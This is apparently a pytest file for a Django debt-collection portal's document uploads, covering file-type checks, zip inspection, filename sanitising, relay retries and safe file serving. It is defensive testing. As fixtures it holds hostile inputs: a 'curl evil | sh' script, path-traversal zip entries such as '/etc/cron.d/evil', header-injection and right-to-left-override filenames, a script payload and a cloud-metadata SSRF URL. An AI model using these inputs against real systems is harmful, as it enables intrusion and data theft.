"""Case documents: checks before anything leaves the portal, the upload relayed once, the list,
and opening a file through the portal with a fresh link."""

from __future__ import annotations

import hashlib
import io
import re
import uuid
import zipfile
from datetime import timedelta
from typing import Any

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

import documents.opening
from cases.actions import ActionInvalid
from cases.models import Case, CaseFile
from debitura.validation import MAX_UPLOAD_BYTES
from documents.actions import case_file_upload
from documents.checks import (
    DocumentInvalid,
    DocumentSizeLimit,
    document_check,
    document_download_name,
    document_name_safe,
)
from outbox.models import OutboxAction
from outbox.relay import Outcome
from tests.fixtures.outbox import NOW, reload

State = OutboxAction.State
LATER = NOW + timedelta(hours=2)
FILES = "/cases/{id}/files"

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 20
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 20
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 40
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def zipped(members: dict[str, bytes], *, deflated: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED if deflated else zipfile.ZIP_STORED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


CT = "[Content_Types].xml"
DOCX = zipped({CT: b"<Types/>", "word/document.xml": b"<w:document/>"})
XLSX = zipped({CT: b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
DOC = OLE + "WordDocument".encode("utf-16-le") + b"\x00" * 64
XLS = OLE + "Workbook".encode("utf-16-le") + b"\x00" * 64
MSI = OLE + "SummaryInformation".encode("utf-16-le") + b"\x00" * 64


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


@pytest.fixture(autouse=True)
def _media_in_tmp(settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = tmp_path


# --- What may be uploaded ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("demand.pdf", PDF),
        ("scan.png", PNG),
        ("photo.jpg", JPEG),
        ("photo.jpeg", JPEG),
        ("letter.docx", DOCX),
        ("ledger.xlsx", XLSX),
        ("letter.doc", DOC),
        ("ledger.xls", XLS),
        ("bundle.zip", zipped({"a.pdf": PDF})),
        ("notes.txt", "Rykker sendt til debitor, ærbødigst\n".encode()),
        ("unicode.txt", "Notepad's Unicode text".encode("utf-16")),
        ("ledger.csv", b"date;amount\n2025-01-02;100,00\n"),
        ("reply.eml", b"Received: from mx\r\nFrom: debtor@example.com\r\nSubject: Re\r\n\r\nI will pay.\r\n"),
        ("MZ-notes.txt", b"MZ bank statement, not a program\n"),
    ],
)
def test_real_documents_pass_the_checks(name: str, content: bytes) -> None:
    assert document_check(file=upload(name, content)) == name


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("invoice.pdf", WINDOWS_PROGRAM, "looks like a Windows program"),
        ("notes.txt", WINDOWS_PROGRAM, "looks like a Windows program"),
        ("ledger.csv", LINUX_PROGRAM, "looks like a Linux program"),
        ("scan.png", JPEG, "first bytes do not match"),
        ("photo.jpg", b"<html><script>alert(1)</script></html>", "first bytes do not match"),
        ("demand.pdf", b"<html>not a pdf</html>", "is not a PDF"),
        ("letter.docx", zipped({"a.txt": b"x"}), "not a .docx document"),
        ("ledger.xlsx", DOCX, "not a .xlsx document"),
        (
            "letter.docx",
            zipped({CT: b"<Types/>", "word/document.xml": b"x", "word/vbaProject.bin": b"x"}),
            "macros",
        ),
        ("letter.doc", MSI, "not a .doc document"),
        ("ledger.xls", DOC, "not a .xls document"),
        ("bundle.zip", zipped({"docs/setup.exe": b"MZ"}), "contains programs"),
        ("bundle.zip", b"PK\x03\x04 truncated", "cannot be read"),
        ("ledger.csv", b"a,b\n1,\x00\x002\n", "contains binary data"),
        ("reply.eml", b"<html>hello</html>", "not an e-mail message"),
        ("empty.pdf", b"", "is empty"),
    ],
)
def test_content_that_does_not_match_its_extension_is_refused(name: str, content: bytes, words: str) -> None:
    with pytest.raises(DocumentInvalid, match=words) as refused:
        document_check(file=upload(name, content))

    assert str(refused.value).startswith(name)


def nested(depth: int, inner: dict[str, bytes]) -> bytes:
    """A zip holding `inner`, `depth` zips deep (depth 1: the zip itself)."""
    content = zipped(inner)
    for level in range(depth - 1):
        content = zipped({f"level{level}.zip": content})
    return content


def declared_as(content: bytes, *, size: int | None = None, flags: int | None = None) -> bytes:
    """A one-file zip whose central directory says another unpacked size or other flags."""
    data = bytearray(content)
    at = data.index(b"PK\x01\x02")
    if size is not None:
        data[at + 24 : at + 28] = size.to_bytes(4, "little")
    if flags is not None:
        data[at + 8 : at + 10] = flags.to_bytes(2, "little")
    return bytes(data)


@pytest.mark.parametrize(
    ("inside", "words"),
    [
        ({"run.exe.": b"x"}, "contains programs or scripts (run.exe.)"),  # Windows drops the dot
        ({"run.exe ": b"x"}, "contains programs or scripts (run.exe )"),  # and the space
        ({"docs/run.exe:Zone.Identifier": b"x"}, "contains programs"),  # an NTFS stream of run.exe
        ({"old.pif": b"x"}, "contains programs"),
        ({"panel.cpl": b"x"}, "contains programs"),
        ({"console.msc": b"x"}, "contains programs"),
        ({"Invoice.PDF.SCR": b"x"}, "contains programs"),
        ({"notes": WINDOWS_PROGRAM}, "contains programs or scripts (notes: a Windows program)"),
        ({"scan.pdf": LINUX_PROGRAM}, "contains programs or scripts (scan.pdf: a Linux program)"),
        ({"install": b"#!/bin/sh\ncurl evil | sh\n"}, "contains programs or scripts (install: a script)"),
        ({"inner.zip": zipped({"setup.exe": b"x"})}, "contains programs or scripts (inner.zip/setup.exe)"),
        ({"a.zip": nested(2, {"readme": WINDOWS_PROGRAM})}, "(a.zip/level0.zip/readme: a Windows program)"),
        ({"../evil.txt": b"x"}, "has files outside its own folder (../evil.txt)"),
        ({"docs/../../evil.txt": b"x"}, "outside its own folder"),
        ({"..\\..\\evil.txt": b"x"}, "outside its own folder"),
        ({"/etc/cron.d/evil": b"x"}, "outside its own folder"),
        ({"C:\\Windows\\evil.txt": b"x"}, "outside its own folder"),
        ({"inner.zip": zipped({"../evil.txt": b"x"})}, "outside its own folder (inner.zip/../evil.txt)"),
        ({"more.rar": b"Rar!\x1a\x07\x00"}, "contains archives the portal cannot look into (more.rar)"),
        ({"a.zip": nested(3, {"a.pdf": PDF})}, "nests archives more than 3 deep"),
    ],
)
def test_a_zip_with_a_program_or_a_path_out_of_its_folder_anywhere_inside_is_refused(
    inside: dict[str, bytes], words: str
) -> None:
    with pytest.raises(DocumentInvalid, match=re.escape(words)):
        document_check(file=upload("bundle.zip", zipped(inside)))


def test_a_docx_with_a_program_inside_is_refused() -> None:
    docx = zipped({CT: b"<Types/>", "word/document.xml": b"<w:document/>", "word/embeddings/run.exe": b"x"})
    with pytest.raises(DocumentInvalid, match="contains programs"):
        document_check(file=upload("letter.docx", docx))


def scrambled(content: bytes) -> bytes:
    """The zip with the compressed bytes of its innermost file overwritten (its last local header's)."""
    data = bytearray(content)
    at = data.rindex(b"PK\x03\x04")
    start = at + 30 + int.from_bytes(data[at + 26 : at + 28], "little")
    data[start : start + 8] = b"\xff" * 8
    return bytes(data)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (declared_as(zipped({"a.txt": b"x" * 10}), size=300 * 1024 * 1024), "unpacks to more than 250 MB"),
        (zipped({f"{n}.txt": b"" for n in range(10_001)}), "holds more than 10,000 files"),
        (declared_as(zipped({"a.pdf": PDF}), flags=0x1), "has password-protected files (a.pdf)"),
        (scrambled(zipped({"inner.zip": zipped({"a.txt": b"ledger " * 500}, deflated=True)})), "is damaged"),
    ],
)
def test_a_zip_bomb_a_locked_or_a_damaged_zip_is_refused(content: bytes, words: str) -> None:
    with pytest.raises(DocumentInvalid, match=re.escape(words)):
        document_check(file=upload("bundle.zip", content))


def test_documents_in_folders_and_a_zip_inside_a_zip_pass() -> None:
    content = zipped(
        {
            "letters/demand.pdf": PDF,
            "letters/": b"",
            "notes.txt": b"MZ bank statement, not a program\n",
            "scans.zip": zipped({"scan.png": PNG, "ledger.xlsx": XLSX}),  # the .xlsx is the third zip
            "reply.eml": b"From: debtor@example.com\r\n\r\nI will pay.\r\n",
        }
    )
    assert document_check(file=upload("bundle.zip", content)) == "bundle.zip"


def test_a_renamed_program_is_refused_wherever_the_signature_sits_in_a_big_text_file() -> None:
    content = b"a,b\n" * 600_000 + b"\x00"  # the NUL lies past the first megabyte read

    with pytest.raises(DocumentInvalid, match="binary data"):
        document_check(file=upload("big.csv", content))


@pytest.mark.parametrize(
    "name", ["tool.exe", "page.html", "image.svg", "archive.7z", "invoice.pdf.exe", "README"]
)
def test_extensions_debitura_does_not_take_are_refused(name: str) -> None:
    with pytest.raises(DocumentInvalid, match="not accepted by Debitura"):
        document_check(file=upload(name, PDF))


def test_the_size_limit_is_25_megabytes_to_the_byte() -> None:
    assert document_check(file=upload("big.pdf", b"%PDF-" + b"\x00" * (MAX_UPLOAD_BYTES - 5)))
    with pytest.raises(DocumentInvalid, match="larger than 25 MB"):
        document_check(file=upload("big.pdf", b"%PDF-" + b"\x00" * (MAX_UPLOAD_BYTES - 4)))


@pytest.mark.parametrize(
    ("given", "safe"),
    [
        ("../../etc/Demand letter.pdf", "Demand_letter.pdf"),
        ("C:\\fakepath\\Invoice 1.pdf", "Invoice_1.pdf"),
        ("rapport\x00\x1b[31m.pdf", "rapport31m.pdf"),
        ("<script>.pdf", "script.pdf"),
        ("CON.pdf", "CON_.pdf"),
        ("ærbødigst rykker.pdf", "ærbødigst_rykker.pdf"),
        ("x" * 300 + ".pdf", "x" * 146 + ".pdf"),
    ],
)
def test_file_names_are_made_safe(given: str, safe: str) -> None:
    assert document_name_safe(given) == safe


@pytest.mark.parametrize("given", ["", "..", ".pdf", "///", "\x00\x01"])
def test_a_name_with_nothing_usable_is_refused(given: str) -> None:
    with pytest.raises(DocumentInvalid):
        document_name_safe(given)


# --- The upload, relayed once -------------------------------------------------------------------


def remote_files(emulator: Any, case: Case, name: str) -> list[Any]:
    return [f for f in emulator.state.cases[str(case.pk)].files if f.file_name == name]


def test_the_file_reaches_debitura_byte_for_byte_and_the_list_says_who_uploaded_it(
    active_case, team_agent, relay, emulator, django_capture_on_commit_callbacks
):
    content = PDF + bytes(range(256)) * 4000
    action = case_file_upload(
        case=active_case,
        actor=team_agent,
        file=ContentFile(content, name="Demand letter.pdf"),
        description="First demand",
        document_type="DemandLetter",
    )
    stored = action.payload["stored_name"]
    assert default_storage.exists(stored)

    with django_capture_on_commit_callbacks(execute=True):
        relay()

    assert reload(action).state == State.DONE
    (remote,) = remote_files(emulator, active_case, "Demand_letter.pdf")
    assert hashlib.sha256(remote.content).hexdigest() == hashlib.sha256(content).hexdigest()
    assert (remote.description, remote.document_type) == ("First demand", "DemandLetter")
    local = CaseFile.objects.get(id=remote.id)
    assert (local.uploaded_by, local.size, local.description) == (team_agent, len(content), "First demand")
    assert not default_storage.exists(stored)  # Debitura has it now; the relay's copy is gone


def test_file_upload_stores_the_file_first_and_uploads_it_once(active_case, team_agent, relay, emulator):
    action = case_file_upload(
        case=active_case,
        actor=team_agent,
        file=ContentFile(b"%PDF-1.4 demand", name="../../etc/Demand letter.pdf"),
        description="First demand",
        document_type="DemandLetter",
    )
    stored = action.payload["stored_name"]
    assert stored.startswith(f"outbox/{active_case.pk}/")
    assert ".." not in stored
    assert action.payload["file_name"] == "Demand_letter.pdf"
    assert default_storage.exists(stored)

    relay()

    assert reload(action).state == State.DONE
    remote = remote_files(emulator, active_case, "Demand_letter.pdf")
    assert [(f.content, f.description, f.document_type) for f in remote] == [
        (b"%PDF-1.4 demand", "First demand", "DemandLetter")
    ]
    assert CaseFile.objects.filter(case=active_case, file_name="Demand_letter.pdf").count() == 1


def test_a_later_children_refresh_keeps_who_uploaded_a_file_and_its_size(
    active_case, team_agent, relay, sync_client
):
    from cases.sync import case_children_refresh

    case_file_upload(case=active_case, actor=team_agent, file=ContentFile(PDF, name="proof.pdf"))
    relay()

    case_children_refresh(case=Case.objects.get(pk=active_case.pk), client=sync_client)

    local = CaseFile.objects.get(case=active_case, file_name="proof.pdf")
    assert (local.uploaded_by, local.size) == (team_agent, len(PDF))


def test_a_file_of_25_megabytes_and_one_byte_is_refused_with_nothing_stored_or_sent(
    active_case, team_agent, relay, emulator, settings
):
    too_big = ContentFile(b"%PDF-" + b"\x00" * (MAX_UPLOAD_BYTES - 4), name="scan.pdf")

    with pytest.raises(ActionInvalid) as refused:
        case_file_upload(case=active_case, actor=team_agent, file=too_big)

    assert "scan.pdf is larger than 25 MB" in refused.value.message_dict["file"][0]
    relay()
    assert not OutboxAction.objects.exists()
    assert not list(settings.MEDIA_ROOT.rglob("*.pdf"))
    assert emulator.requests(method="POST", template=FILES) == []


@pytest.mark.parametrize(
    ("name", "content"), [("tool.exe", WINDOWS_PROGRAM), ("invoice.pdf", WINDOWS_PROGRAM), ("a.docx", PDF)]
)
def test_a_disallowed_or_mismatched_file_is_refused_before_anything_is_stored(
    name, content, active_case, team_agent, relay, emulator
):
    with pytest.raises(ActionInvalid) as caught:
        case_file_upload(case=active_case, actor=team_agent, file=ContentFile(content, name=name))

    assert "file" in caught.value.message_dict, caught.value.message_dict
    relay()
    assert not OutboxAction.objects.exists()
    assert emulator.requests(method="POST", template=FILES) == []


def test_a_retry_after_a_dropped_answer_leaves_exactly_one_file_at_debitura(
    active_case, team_agent, relay, emulator
):
    action = case_file_upload(
        case=active_case, actor=team_agent, file=ContentFile(PDF, name="proof.pdf"), description="Proof"
    )
    emulator.set_faults(drop_rate=1.0, paths=[FILES], methods=["POST"])
    relay()
    assert (reload(action).state, action.uncertain) == (State.PENDING, True)
    emulator.clear_faults()

    report = relay(now=LATER)

    assert report.counts == {Outcome.FOUND: 1}
    assert reload(action).state == State.DONE
    assert len(remote_files(emulator, active_case, "proof.pdf")) == 1
    assert len(emulator.requests(method="POST", template=FILES)) == 1


def test_the_same_name_uploaded_twice_on_purpose_is_sent_twice_even_after_an_unclear_failure(
    active_case, team_agent, relay, emulator
):
    first = case_file_upload(case=active_case, actor=team_agent, file=ContentFile(PDF, name="proof.pdf"))
    relay()
    second = case_file_upload(case=active_case, actor=team_agent, file=ContentFile(PDF, name="proof.pdf"))
    emulator.set_faults(error_rate=1.0, paths=[FILES], methods=["POST"])
    relay()
    emulator.clear_faults()
    relay(now=LATER)

    assert (reload(first).state, reload(second).state) == (State.DONE, State.DONE)
    assert len(remote_files(emulator, active_case, "proof.pdf")) == 2


def test_an_unsent_upload_is_sent_even_when_the_case_already_has_a_file_of_that_name(
    active_case, team_agent, relay, emulator, synced
):
    # The creditor's own proof.pdf is there; ours fails with a 5xx before reaching Debitura.
    synced.upload_file(str(active_case.pk), io.BytesIO(PDF), file_name="proof.pdf")
    action = case_file_upload(case=active_case, actor=team_agent, file=ContentFile(PDF, name="proof.pdf"))
    emulator.set_faults(error_rate=1.0, paths=[FILES], methods=["POST"])
    relay()
    assert (reload(action).state, action.uncertain) == (State.PENDING, True)
    emulator.clear_faults()

    report = relay(now=LATER)

    assert report.counts == {Outcome.DONE: 1}, "the creditor's file must not pass for ours"
    assert len(remote_files(emulator, active_case, "proof.pdf")) == 2


def test_a_merged_case_takes_no_upload_and_shows_no_form(client, active_case, team_agent, relay, emulator):
    Case.objects.filter(pk=active_case.pk).update(lifecycle="Merged")
    client.force_login(team_agent)

    page = client.get(reverse("cases:detail", args=[active_case.pk])).content.decode()
    response = client.post(
        reverse("cases:file_upload", args=[active_case.pk]),
        {"documents": [upload("a.pdf", PDF)], "token": "t1"},
    )

    assert 'id="file-upload"' not in page
    assert response.status_code == 400
    assert "Not possible on a case that is Merged" in response.content.decode()
    assert not OutboxAction.objects.exists()


# --- The upload view ----------------------------------------------------------------------------


def test_a_viewer_cannot_upload(client, viewer, active_case, emulator):
    client.force_login(viewer)

    page = client.get(reverse("cases:detail", args=[active_case.pk])).content.decode()
    response = client.post(
        reverse("cases:file_upload", args=[active_case.pk]),
        {"documents": [upload("a.pdf", PDF)], "token": "t"},
    )

    assert response.status_code == 403
    assert 'id="file-upload"' not in page
    assert not OutboxAction.objects.exists()


def test_the_form_says_files_are_visible_to_the_creditor(client, team_agent, active_case):
    client.force_login(team_agent)

    page = client.get(reverse("cases:detail", args=[active_case.pk])).content.decode()

    assert 'id="file-upload"' in page
    assert 'enctype="multipart/form-data"' in page
    assert "Files are always visible to the creditor at Debitura." in page


def test_without_javascript_several_files_post_at_once_and_each_is_answered(client, team_agent, active_case):
    client.force_login(team_agent)
    url = reverse("cases:file_upload", args=[active_case.pk])

    response = client.post(
        url,
        {
            "documents": [
                upload("a.pdf", PDF),
                upload("setup.pdf", WINDOWS_PROGRAM),
                upload("b.csv", b"x,y\n"),
            ],
            "document_type": "DebtorDocuments",
            "description": "From the debtor",
            "token": "form-1",
        },
    )

    html = response.content.decode()
    assert response.status_code == 400
    assert "setup.pdf looks like a Windows program" in html
    assert "a.pdf queued" in html
    assert "b.csv queued" in html
    rows = OutboxAction.objects.order_by("created_at")
    assert [r.payload["file_name"] for r in rows] == ["a.pdf", "b.csv"]
    assert {r.payload["document_type"] for r in rows} == {"DebtorDocuments"}
    assert "Upload pending" in html  # listed as pending on the page that came back

    again = client.post(url, {"documents": [upload("a.pdf", PDF)], "token": "form-1"})
    assert again.status_code == 302  # the same form sent again queues nothing new
    assert OutboxAction.objects.count() == 2


def test_without_javascript_an_error_shows_under_its_field_and_the_description_is_kept(
    client, team_agent, active_case
):
    client.force_login(team_agent)
    too_long = "Letter from the debtor's lawyer. " * 20  # 660 characters

    response = client.post(
        reverse("cases:file_upload", args=[active_case.pk]),
        {"documents": [upload("a.pdf", PDF)], "description": too_long, "token": "form-2"},
    )

    html = response.content.decode()
    assert response.status_code == 400
    field = html.index('id="upload_description"')
    error = html.index('id="upload-error-description-1"')
    assert field < error < html.index("</form>", field), "the message sits under the description"
    assert "500 characters" in html[error : error + 300]
    assert html.count("Letter from the debtor&#x27;s lawyer.") >= 20  # what the agent typed is still there
    assert not OutboxAction.objects.exists()


def test_with_javascript_one_file_per_request_gets_a_partial_back(client, team_agent, active_case):
    client.force_login(team_agent)
    url = reverse("cases:file_upload", args=[active_case.pk])

    ok = client.post(
        url,
        {"documents": [upload("a.pdf", PDF)], "description": "x" * 500, "token": "js-1"},
        headers={"HX-Request": "true"},
    )
    refused = client.post(
        url,
        {"documents": [upload("a.pdf", PDF)], "description": "x" * 501, "token": "js-2"},
        headers={"HX-Request": "true"},
    )

    assert ok.status_code == 200
    assert "a.pdf queued" in ok.content.decode()
    assert "<html" not in ok.content.decode()
    assert refused.status_code == 400
    assert "at most 500 characters" in refused.content.decode()
    assert OutboxAction.objects.count() == 1


# --- The list ------------------------------------------------------------------------------------


def test_the_list_shows_pending_uploads_then_the_file_with_who_uploaded_it(
    client, team_agent, active_case, relay
):
    client.force_login(team_agent)
    case_file_upload(
        case=active_case,
        actor=team_agent,
        file=ContentFile(PDF, name="proof.pdf"),
        document_type="DemandLetter",
    )
    children = reverse("cases:detail", args=[active_case.pk])

    before = client.get(children).content.decode()
    relay()
    after = client.get(children).content.decode()

    assert "Upload pending" in before
    assert "Demand letter" in before
    remote = CaseFile.objects.get(case=active_case, file_name="proof.pdf")
    assert reverse("cases:file_open", args=[active_case.pk, remote.pk]) in after
    assert "Upload pending" not in after
    assert team_agent.get_full_name() in after
    assert f"{len(PDF)}\xa0bytes" in after


def test_a_failed_upload_stays_listed_with_debituras_words(client, team_agent, active_case, relay, emulator):
    client.force_login(team_agent)
    case_file_upload(case=active_case, actor=team_agent, file=ContentFile(PDF, name="proof.pdf"))
    with emulator.state.lock:
        emulator.state.cases[str(active_case.pk)].lifecycle = "Merged"
    relay()

    html = client.get(reverse("cases:detail", args=[active_case.pk])).content.decode()

    assert "Upload failed" in html


# --- Opening a file -------------------------------------------------------------------------------


@pytest.fixture
def via_emulator(monkeypatch, sync_client):
    monkeypatch.setattr(documents.opening, "get_client", lambda: sync_client)
    return sync_client


@pytest.fixture
def uploaded(active_case, team_agent, relay):
    """Files on the case at the emulator and in the local list, as a relay leaves them."""

    def make(name: str, content: bytes) -> CaseFile:
        case_file_upload(case=active_case, actor=team_agent, file=ContentFile(content, name=name))
        relay()
        return CaseFile.objects.get(case=active_case, file_name=name)

    return make


def open_file(client, case_file: CaseFile) -> Any:
    return client.get(reverse("cases:file_open", args=[case_file.case_id, case_file.pk]))


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def test_a_pdf_opens_inline_through_the_portal_with_a_safe_type(client, viewer, uploaded, via_emulator):
    case_file = uploaded("demand.pdf", PDF)
    client.force_login(viewer)  # reading is allowed to everyone who may see cases

    response = open_file(client, case_file)

    assert response.status_code == 200
    assert body(response) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'inline; filename="demand.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["Content-Length"] == str(len(PDF))


def test_a_csv_is_downloaded_as_an_attachment(client, team_agent, uploaded, via_emulator):
    case_file = uploaded("ledger.csv", b"a,b\n1,2\n")
    client.force_login(team_agent)

    response = open_file(client, case_file)

    assert body(response) == b"a,b\n1,2\n"
    assert response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"] == 'attachment; filename="ledger.csv"'


def test_a_file_whose_bytes_do_not_match_its_name_is_never_shown_inline(
    client, team_agent, active_case, emulator, synced, via_emulator
):
    # A creditor's "PDF" that is really a web page: saved as bytes, never rendered.
    case_file = _seed_remote_file(emulator, active_case, "invoice.pdf", b"<html><script>alert(1)</script>")
    client.force_login(team_agent)

    response = open_file(client, case_file)

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize(
    ("name", "disposition"),
    [
        ("../../etc/passwd.txt", 'attachment; filename="passwd.txt"'),
        ("..\\..\\Windows\\win.ini.txt", 'attachment; filename="win.ini.txt"'),
        ("/abs/path/rapport.csv", 'attachment; filename="rapport.csv"'),
        ("brev\r\nX-Evil: 1\x1b.txt", 'attachment; filename="brevX-Evil: 1.txt"'),  # no NUL: PostgreSQL
        (" .. ", 'attachment; filename="file"'),
        ("invoice\u202etxt.exe", 'attachment; filename="invoicetxt.exe"'),  # no right-to-left override
        ("ærbødigst.txt", "attachment; filename*=utf-8''%C3%A6rb%C3%B8digst.txt"),
    ],
)
def test_a_name_from_debitura_is_saved_under_its_base_name_only(
    client, team_agent, active_case, emulator, synced, via_emulator, name, disposition
):
    case_file = _seed_remote_file(emulator, active_case, name, b"plain text\n")
    client.force_login(team_agent)

    response = open_file(client, case_file)

    assert response.status_code == 200
    assert response["Content-Disposition"] == disposition
    assert body(response) == b"plain text\n"


@pytest.mark.parametrize(
    ("given", "saved"),
    [
        ("invoice\u202etxt.exe", "invoicetxt.exe"),  # a right-to-left override shows it as invoiceexe.txt
        ("ærbødigst rykker.pdf", "ærbødigst rykker.pdf"),
        ("C:\\fakepath\\scan.png.", "scan.png"),
        ("x" * 300 + ".pdf", "x" * 146 + ".pdf"),
        ("", "file"),
    ],
)
def test_download_names_keep_the_words_and_drop_folders_and_invisible_characters(given, saved) -> None:
    assert document_download_name(given) == saved


def test_a_zip_from_debitura_with_a_program_inside_is_not_handed_out(
    client, team_agent, active_case, emulator, synced, via_emulator
):
    bundle = zipped({"letters/demand.pdf": PDF, "inner.zip": zipped({"run.exe.": b"x"})})
    case_file = _seed_remote_file(emulator, active_case, "bundle.zip", bundle)
    client.force_login(team_agent)

    response = client.get(reverse("cases:file_open", args=[active_case.pk, case_file.pk]), follow=True)

    assert response.redirect_chain[0][0].endswith("#case-files")
    assert (
        "bundle.zip could not be opened: it contains programs or scripts (inner.zip/run.exe.)"
        in response.content.decode()
    )


def test_a_program_from_debitura_is_not_handed_out(
    client, team_agent, active_case, emulator, synced, via_emulator
):
    case_file = _seed_remote_file(emulator, active_case, "invoice.pdf", WINDOWS_PROGRAM + b"\x00" * 2000)
    client.force_login(team_agent)

    response = client.get(reverse("cases:file_open", args=[active_case.pk, case_file.pk]), follow=True)

    assert "invoice.pdf could not be opened: it looks like a Windows program" in response.content.decode()


def test_a_clean_zip_from_debitura_is_checked_whole_then_sent_byte_for_byte(
    client, team_agent, active_case, emulator, synced, via_emulator
):
    bundle = zipped({"letters/demand.pdf": PDF, "big.txt": b"ledger line\n" * 200_000})
    case_file = _seed_remote_file(emulator, active_case, "bundle.zip", bundle)
    client.force_login(team_agent)

    response = open_file(client, case_file)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"] == 'attachment; filename="bundle.zip"'
    assert body(response) == bundle


def _seed_remote_file(emulator: Any, case: Case, name: str, content: bytes) -> CaseFile:
    from debitura.emulator.model import CaseFile as RemoteFile

    with emulator.state.lock:
        remote = RemoteFile(str(uuid.uuid4()), str(case.pk), name, None, None, content, emulator.clock.now())
        emulator.state.cases[str(case.pk)].files.append(remote)
        emulator.state.files[remote.id] = remote
    return CaseFile.objects.create(id=remote.id, case=case, file_name=name)  # no link yet


def test_an_old_link_is_refreshed_before_it_is_tried(client, team_agent, uploaded, via_emulator, emulator):
    case_file = uploaded("demand.pdf", PDF)
    CaseFile.objects.filter(pk=case_file.pk).update(url_fetched_at=timezone.now() - timedelta(hours=2))
    lists_before = len(emulator.requests(method="GET", template=FILES))
    client.force_login(team_agent)

    assert body(open_file(client, case_file)) == PDF

    assert len(emulator.requests(method="GET", template=FILES)) == lists_before + 1
    assert CaseFile.objects.get(pk=case_file.pk).url_fetched_at > timezone.now() - timedelta(minutes=1)


def test_a_link_debitura_refuses_as_expired_is_refreshed_once(
    client, team_agent, uploaded, via_emulator, emulator
):
    case_file = uploaded("demand.pdf", PDF)
    old_url = CaseFile.objects.get(pk=case_file.pk).url
    lists_before = len(emulator.requests(method="GET", template=FILES))
    emulator.advance_clock(timedelta(hours=2).total_seconds())  # the stored link expired there
    client.force_login(team_agent)

    response = open_file(client, case_file)

    assert response.status_code == 200
    assert body(response) == PDF
    assert CaseFile.objects.get(pk=case_file.pk).url != old_url
    assert len(emulator.requests(method="GET", template=FILES)) == lists_before + 1


def test_a_file_gone_at_debitura_is_said_so_on_the_case_page(
    client, team_agent, active_case, synced, via_emulator
):
    case_file = CaseFile.objects.create(id=uuid.uuid4(), case=active_case, file_name="gone.pdf")
    client.force_login(team_agent)

    response = client.get(reverse("cases:file_open", args=[active_case.pk, case_file.pk]), follow=True)

    assert (
        "gone.pdf could not be opened: it is no longer on the case at Debitura" in response.content.decode()
    )


def test_a_stored_link_to_another_host_is_never_followed(
    client, team_agent, active_case, synced, via_emulator
):
    case_file = CaseFile.objects.create(
        id=uuid.uuid4(),
        case=active_case,
        file_name="x.pdf",
        url="http://169.254.169.254/latest/meta-data/",
        url_fetched_at=timezone.now(),
    )
    client.force_login(team_agent)

    response = client.get(reverse("cases:file_open", args=[active_case.pk, case_file.pk]), follow=True)

    assert "neither Debitura&#x27;s API nor a configured file host" in response.content.decode()


def test_a_file_is_only_found_under_its_own_case(
    client, team_agent, uploaded, cases_by_lifecycle, via_emulator
):
    case_file = uploaded("demand.pdf", PDF)
    other = next(c for c in cases_by_lifecycle("Active") if c.pk != case_file.case_id)
    client.force_login(team_agent)

    assert client.get(reverse("cases:file_open", args=[other.pk, case_file.pk])).status_code == 404


def test_a_pending_upload_opens_from_the_portals_storage(client, team_agent, active_case):
    action = case_file_upload(case=active_case, actor=team_agent, file=ContentFile(PDF, name="proof.pdf"))
    client.force_login(team_agent)

    response = client.get(reverse("cases:upload_open", args=[active_case.pk, action.pk]))

    assert body(response) == PDF
    assert response["Content-Disposition"] == 'inline; filename="proof.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"


# --- Reading the request -------------------------------------------------------------------------


def test_an_upload_keeps_at_most_25_megabytes_and_one_byte_of_each_file_while_it_is_read() -> None:
    handler = DocumentSizeLimit()
    chunk = b"x" * (64 * 1024)
    kept = [handler.receive_data_chunk(chunk, start) for start in range(0, 30 * 1024 * 1024, len(chunk))]

    assert sum(len(part) for part in kept if part) == MAX_UPLOAD_BYTES + 1
    assert kept[-1] is None


def test_a_50_megabyte_upload_is_refused_by_its_size_in_words(client, team_agent, active_case):
    client.force_login(team_agent)
    huge = upload("scan.pdf", b"%PDF-" + b"\x00" * (2 * MAX_UPLOAD_BYTES))

    response = client.post(
        reverse("cases:file_upload", args=[active_case.pk]), {"documents": [huge], "token": "big"}
    )

    assert response.status_code == 400
    assert "scan.pdf is larger than 25 MB" in response.content.decode()
    assert not OutboxAction.objects.exists()


def test_an_upload_without_the_csrf_token_is_refused(team_agent, active_case):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(team_agent)

    response = client.post(
        reverse("cases:file_upload", args=[active_case.pk]),
        {"documents": [upload("a.pdf", PDF)], "token": "c"},
    )

    assert response.status_code == 403
    assert not OutboxAction.objects.exists()


def test_eleven_files_get_the_forms_message_and_over_twenty_are_cut_off_while_reading(
    client, team_agent, active_case
):
    client.force_login(team_agent)
    url = reverse("cases:file_upload", args=[active_case.pk])

